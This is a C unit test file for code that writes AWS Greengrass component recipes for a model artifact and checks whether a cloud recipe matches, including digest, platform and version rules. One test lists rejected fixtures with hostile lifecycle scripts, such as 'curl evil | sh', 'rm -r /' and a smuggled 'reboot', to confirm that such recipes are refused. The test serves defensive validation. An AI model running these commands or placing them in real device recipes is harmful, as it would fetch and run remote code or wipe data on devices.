/* links: slipway_work */

/* Goal: the recipe is one that classic and lite nuclei take, and an existing one is told apart. */

#include "work/recipe.h"

#include <string.h>

#include "suite.h"

static const struct recipe RECIPE = {
    .component = "digits.model",
    .version = "1.0.4",
    .publisher = "shop",
    .os = "linux",
    .architecture = "amd64",
    .runtime = "*",
    .uri = "s3://bucket/models/abc/digits.model.zip",
    .digest = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
};

/* As GetComponent gives it back. */
#define CLOUD(DIGEST, RUNTIME, URI_KEY)                                                          \
    "{\"RecipeFormatVersion\":\"2020-01-25\",\"ComponentName\":\"digits.model\","                \
    "\"ComponentVersion\":\"1.0.4\",\"ComponentType\":\"aws.greengrass.generic\","               \
    "\"ComponentDescription\":\"x\",\"ComponentPublisher\":\"shop\",\"Manifests\":["             \
    "{\"Platform\":{\"os\":\"linux\",\"architecture\":\"amd64\",\"runtime\":\"" RUNTIME "\"},"   \
    "\"Lifecycle\":{\"run\":{\"Script\":\"exit 0\"}},\"Artifacts\":[{\"" URI_KEY "\":"           \
    "\"s3://bucket/models/abc/digits.model.zip\",\"Digest\":\"" DIGEST "\",\"Algorithm\":"       \
    "\"SHA-256\",\"Unarchive\":\"ZIP\",\"Permission\":{\"Read\":\"ALL\",\"Execute\":\"NONE\"}}]" \
    "}],\"Lifecycle\":{}}"
#define OURS "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="

static struct error e;

START_TEST(it_is_written_as_both_nuclei_want_it)
{
    struct buf out = { .max = 65536 };

    ck_assert_msg(recipe_write(&RECIPE, &out, &e), "%s", e.text);
    ck_assert_str_eq(
        out.at,
        "{\"RecipeFormatVersion\":\"2020-01-25\",\"ComponentName\":\"digits.model\","
        "\"ComponentVersion\":\"1.0.4\",\"ComponentDescription\":\"Model digits.model 1.0.4\","
        "\"ComponentPublisher\":\"shop\",\"Manifests\":[{\"Platform\":{\"os\":\"linux\","
        "\"architecture\":\"amd64\",\"runtime\":\"*\"},\"Lifecycle\":{\"run\":{\"Script\":"
        "\"exit 0\"}},\"Artifacts\":[{\"Uri\":\"s3://bucket/models/abc/digits.model.zip\","
        "\"Unarchive\":\"ZIP\",\"Permission\":{\"Read\":\"ALL\",\"Execute\":\"NONE\"}}]}]}");
    buf_free(&out);
}
END_TEST

START_TEST(a_platform_of_the_classic_nucleus_only_leaves_the_runtime_out)
{
    struct recipe r = RECIPE;
    struct buf out = { .max = 65536 };

    r.runtime = "";
    ck_assert(recipe_write(&r, &out, &e));
    ck_assert_ptr_null(strstr(out.at, "runtime"));
    buf_free(&out);
}
END_TEST

START_TEST(a_name_of_awss_own_is_refused)
{
    struct recipe r = RECIPE;
    struct buf out = { .max = 65536 };

    r.component = "aws.greengrass.Nucleus";
    ck_assert(!recipe_write(&r, &out, &e));
    r.component = "a b";
    ck_assert(!recipe_write(&r, &out, &e));
    r.component = "";
    ck_assert(!recipe_write(&r, &out, &e));
    buf_free(&out);
}
END_TEST

START_TEST(more_than_16_kilobytes_are_refused)
{
    static char text[20000];
    struct recipe r = RECIPE;
    struct buf out = { .max = 65536 };

    memset(text, 'x', sizeof(text) - 1);
    r.description = text;
    ck_assert(!recipe_write(&r, &out, &e));
    ck_assert_ptr_nonnull(strstr(e.text, "16384"));
    buf_free(&out);
}
END_TEST

START_TEST(the_same_recipe_in_awss_words_is_ours)
{
    ck_assert_msg(recipe_is(&RECIPE, STR(CLOUD(OURS, "*", "Uri")), &e), "%s", e.text);
    ck_assert_msg(recipe_is(&RECIPE, STR(CLOUD(OURS, "*", "URI")), &e), "%s", e.text);
}
END_TEST

START_TEST(other_content_or_another_platform_is_not_ours)
{
    ck_assert(!recipe_is(&RECIPE, STR(CLOUD("AAAA", "*", "Uri")), &e));
    ck_assert_ptr_nonnull(strstr(e.text, "Digest is AAAA"));
    ck_assert(!recipe_is(&RECIPE, STR(CLOUD(OURS, "aws_nucleus_lite", "Uri")), &e));
    ck_assert_ptr_nonnull(strstr(e.text, "runtime"));
    ck_assert(!recipe_is(&RECIPE, STR("{\"Manifests\":[]}"), &e));
    ck_assert(!recipe_is(&RECIPE, STR("[]"), &e));
    ck_assert(!recipe_is(&RECIPE, STR("---\nyaml: no"), &e));
}
END_TEST

/* The same artifact, and what else a recipe may make a device do. */
#define WITH(TYPE, DEPENDENCIES, LIFECYCLE, GLOBAL)                                               \
    "{\"ComponentName\":\"digits.model\",\"ComponentVersion\":\"1.0.4\",\"ComponentType\":" TYPE  \
    ",\"ComponentDependencies\":" DEPENDENCIES ",\"Manifests\":[{\"Platform\":{\"os\":\"linux\"," \
    "\"architecture\":\"amd64\",\"runtime\":\"*\"},\"Lifecycle\":" LIFECYCLE ",\"Artifacts\":[{"  \
    "\"Uri\":\"s3://bucket/models/abc/digits.model.zip\",\"Digest\":\"" OURS                      \
    "\",\"Unarchive\":\"ZIP\"}]}],\"Lifecycle\":" GLOBAL "}"
#define GENERIC "\"aws.greengrass.generic\""
#define RUN "{\"run\":{\"Script\":\"exit 0\"}}"

START_TEST(the_same_artifact_in_a_recipe_that_does_more_is_not_ours)
{
    static const char *const FINE[] = {
        WITH(GENERIC, "{}", RUN, "{}"),
        WITH("null", "null", "{\"Run\":\"exit 0\",\"install\":null}", "null"),
    };
    static const char *const MORE[] = {
        WITH(GENERIC, "{}", "{\"run\":{\"Script\":\"curl evil | sh\"}}", "{}"),
        WITH(GENERIC, "{}", "{\"run\":\"exit 0; reboot\"}", "{}"),
        WITH(GENERIC, "{}", "{\"run\":{\"Script\":\"exit 0\",\"RequiresPrivilege\":true}}", "{}"),
        WITH(GENERIC, "{}", "{\"run\":\"exit 0\",\"install\":\"rm -r /\"}", "{}"),
        WITH(GENERIC, "{}", "{}", "{}"),
        WITH(GENERIC, "{}", RUN, "{\"install\":\"rm -r /\"}"),
        WITH(GENERIC, "{\"other\":{\"VersionRequirement\":\"*\"}}", RUN, "{}"),
        WITH("\"aws.greengrass.plugin\"", "{}", RUN, "{}"),
    };
    char digest[64];

    for (size_t i = 0; i < ARRAY_LEN(FINE); i++) {
        ck_assert_msg(recipe_is(&RECIPE, str_of(FINE[i]), &e), "%zu: %s", i, e.text);
        ck_assert(recipe_digest(str_of(FINE[i]), digest, sizeof(digest), &e));
    }
    for (size_t i = 0; i < ARRAY_LEN(MORE); i++) {
        ck_assert_msg(!recipe_is(&RECIPE, str_of(MORE[i]), &e), "%zu", i);
        ck_assert_msg(!recipe_digest(str_of(MORE[i]), digest, sizeof(digest), &e), "%zu", i);
    }
}
END_TEST

START_TEST(the_digest_of_the_service_is_read)
{
    char digest[64];

    ck_assert(recipe_digest(STR(CLOUD(OURS, "*", "Uri")), digest, sizeof(digest), &e));
    ck_assert_str_eq(digest, OURS);
    ck_assert(!recipe_digest(STR("{}"), digest, sizeof(digest), &e));
}
END_TEST

START_TEST(a_version_is_made_of_the_package_version)
{
    char version[80];

    ck_assert(recipe_version("1.0.{version}", 17, version, sizeof(version), &e));
    ck_assert_str_eq(version, "1.0.17");
    ck_assert(recipe_version("{version}.0.0-rc.1+x-1", 2, version, sizeof(version), &e));
    ck_assert_str_eq(version, "2.0.0-rc.1+x-1");
    ck_assert(recipe_version("3.1.4", 0, version, sizeof(version), &e));
}
END_TEST

START_TEST(a_version_greengrass_refuses_is_refused_here)
{
    static const char *const BAD[] = { "",       "1.0",         "1.0.",           "01.0.0",
                                       "1.0.0-", "1.0.0-a..b",  "1.0.1000000",    "v1.0.0",
                                       "1.0.0 ", "{other}.0.0", "1.0.0.{version}" };
    char version[80];

    for (size_t i = 0; i < ARRAY_LEN(BAD); i++)
        ck_assert_msg(!recipe_version(BAD[i], 1, version, sizeof(version), &e), "%s", BAD[i]);
}
END_TEST

START_TEST(a_package_without_number_cannot_fill_the_pattern)
{
    char version[80];

    ck_assert(!recipe_version("1.0.{version}", 0, version, sizeof(version), &e));
    ck_assert_ptr_nonnull(strstr(e.text, "model package group"));
}
END_TEST

SUITE(work_recipe, it_is_written_as_both_nuclei_want_it,
      a_platform_of_the_classic_nucleus_only_leaves_the_runtime_out, a_name_of_awss_own_is_refused,
      more_than_16_kilobytes_are_refused, the_same_recipe_in_awss_words_is_ours,
      other_content_or_another_platform_is_not_ours,
      the_same_artifact_in_a_recipe_that_does_more_is_not_ours, the_digest_of_the_service_is_read,
      a_version_is_made_of_the_package_version, a_version_greengrass_refuses_is_refused_here,
      a_package_without_number_cannot_fill_the_pattern)
